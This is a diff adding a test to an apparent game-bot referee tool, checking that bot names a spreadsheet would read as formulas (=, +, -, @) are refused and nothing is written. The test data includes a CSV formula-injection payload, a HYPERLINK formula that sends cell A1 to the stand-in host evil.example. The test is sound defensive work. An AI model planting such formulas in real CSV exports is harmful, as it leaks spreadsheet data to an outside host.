@@ -88,6 +88,72 @@ Test(hostile, names_too_long_or_sharing_a_log_file_are_refused, .timeout = 30)
     cr_expect(strstr(r.err, "bots 'a b' and 'a_b' would share the log file"), "%s", r.err);
 }
 
+/* A name a spreadsheet would take for a formula (= + - @ first) is refused
+ * before anything is played or written, from --bot, a bots file and a league's
+ * add alike: names land in every CSV file of a run. */
+Test(hostile, names_a_spreadsheet_takes_for_formulas_are_refused_at_the_door, .timeout = 30)
+{
+    char dir[64], bots[128], games[128], league[128];
+    test_tmpdir(dir, "hostile");
+    snprintf(bots, sizeof(bots), "%s/bots.csv", dir);
+    FILE *f = fopen(bots, "w");
+    cr_assert(f);
+    fprintf(f,
+            "name,command\n\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",\"%s "
+            "legal\"\nb,\"%s legal\"\n",
+            FIXTURE, FIXTURE);
+    fclose(f);
+    snprintf(games, sizeof(games), "%s/out", dir);
+    char *file[] = {REFEREE_BIN, "tournament", "--bots", bots, "--results", games, NULL};
+    cr_assert_eq(run_program(file, NULL, &r), 0);
+    cr_expect_eq(r.status, 2, "%s", r.err);
+    /* The name is echoed escaped and cut, as every name refused for its bytes. */
+    cr_expect_str_eq(r.err, "referee: bot name '=HYPERLINK(\\\"http://evil.example/...' starts "
+                            "with '=', which a spreadsheet takes for a formula\n");
+    cr_expect_neq(access(games, F_OK), 0, "nothing was written");
+
+    static const char *const names[] = {"+1", "-x", "@SUM(1)"};
+    for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
+        char bot[128], want[128];
+        snprintf(bot, sizeof(bot), "%s=" FIXTURE " legal", names[i]);
+        char *argv[] = {REFEREE_BIN,           "match",     "--bot", bot, "--bot",
+                        "b=" FIXTURE " legal", "--results", games,   NULL};
+        cr_assert_eq(run_program(argv, NULL, &r), 0);
+        cr_expect_eq(r.status, 2, "%s: %s", names[i], r.err);
+        snprintf(want, sizeof(want), "bot name '%s' starts with '%c', which a spreadsheet",
+                 names[i], names[i][0]);
+        cr_expect(strstr(r.err, want), "%s", r.err);
+        cr_expect_neq(access(games, F_OK), 0, "nothing was written");
+    }
+
+    snprintf(league, sizeof(league), "%s/league", dir);
+    char *add[] = {REFEREE_BIN, "league", "add", league, "@SUM(1)=" FIXTURE " legal", NULL};
+    cr_assert_eq(run_program(add, NULL, &r), 0);
+    cr_expect_eq(r.status, 2, "%s", r.err);
+    cr_expect_str_eq(r.err, "referee: entry name '@SUM(1)' starts with '@', which a spreadsheet "
+                            "takes for a formula\n");
+
+    /* A league's bots.csv edited by hand: its run refuses the row. */
+    char *a[] = {REFEREE_BIN, "league", "add", league, "a=" FIXTURE " legal", NULL};
+    char *b[] = {REFEREE_BIN, "league", "add", league, "b=" FIXTURE " legal", NULL};
+    cr_assert_eq(run_program(a, NULL, &r), 0);
+    cr_assert_eq(r.status, 0, "%s", r.err);
+    cr_assert_eq(run_program(b, NULL, &r), 0);
+    cr_assert_eq(r.status, 0, "%s", r.err);
+    char roster[160];
+    snprintf(roster, sizeof(roster), "%s/bots.csv", league);
+    f = fopen(roster, "a");
+    cr_assert(f);
+    fprintf(f, "\"-1\",\"%s legal\",\"\",\"\",\"\"\n", FIXTURE);
+    fclose(f);
+    char *run[] = {REFEREE_BIN, "league", "run", league, "--games", "2", "-q", NULL};
+    cr_assert_eq(run_program(run, NULL, &r), 0);
+    cr_expect_eq(r.status, 3, "%s", r.err);
+    cr_expect(strstr(r.err, "/bots.csv', row 3: name '-1' starts with '-', which a spreadsheet "
+                            "takes for a formula\n"),
+              "%s", r.err);
+}
+
 Test(hostile, log_cap_0_keeps_no_log, .timeout = 30)
 {
     char dir[64], path[128];
